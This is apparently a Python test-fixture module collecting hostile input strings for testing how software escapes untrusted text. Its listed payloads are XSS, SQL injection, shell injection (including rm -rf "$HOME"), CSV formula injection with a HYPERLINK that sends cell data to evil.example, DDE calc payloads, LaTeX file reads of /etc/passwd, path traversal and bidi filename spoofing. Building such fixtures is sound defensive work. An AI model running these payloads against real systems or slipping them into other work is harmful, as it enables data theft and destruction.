"""Texts that do harm where they are not taken as text."""

from __future__ import annotations

# Nobody answers there: what asks for it was made to by a text.
FOREIGN = "evil.example"
# An address in plain letters, which many readers make a link of.
BARE = f"https://{FOREIGN}/x HTTP://{FOREIGN} www.{FOREIGN} me@{FOREIGN}"
# The code span in front would hide the rest from a Markdown reader that forgot to escape it.
MARKUP = (
    f"`a` <img src=http://{FOREIGN}/i.png onerror=alert(1)> ![x](http://{FOREIGN}/m.png) "
    "[y](javascript:alert(1)) $x^2$ :red[r] **b** </script><script>alert(1)</script> & <!-- "
    f"{BARE} "
)
SQL = "'; DROP TABLE instances; -- \" ) OR 1=1 \\"
SHELL = '$(touch /tmp/spectra_attack) `id` ; rm -rf "$HOME" \' \n reboot'
FORMULAS = (
    f'=HYPERLINK("http://{FOREIGN}/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "\u200b=1+1",
    "\u202e=1+1",
    "\x00=1+1",
    "|=1+1",
    "%0A=1+1",
)
TEXTS = {
    **{f"formula {number}": text for number, text in enumerate(FORMULAS)},
    "markup": MARKUP,
    "latex": "\\input{/etc/passwd} $$\\frac{1}{0}$$ \\(x\\)",
    "address": BARE,
    "mention": "@channel <!channel> <@U123> <https://evil.example|here> @everyone",
    "sql": SQL,
    "shell": SHELL,
    "bidi": "invoice\u202efdp.exe\u2066\u2067\u2069",
    "controls": "a\x00b\x01c\x1b[31md\x7fe\x85f\u2028g\u2029h\ufeffi\ufffej",
    "emoji": "👩‍👩‍👧‍👦" + "Z̸͎͝a̷l̵g̶o" + "\u0301" * 200,
    "template": "{{7*7}} ${7*7} %(x)s {0.__class__} %{x} <%= 1 %>",
    "path": "../../../../etc/passwd\\..\\CON",
    "nothing": " ",
}
LONG = MARKUP + "A" * 100_000
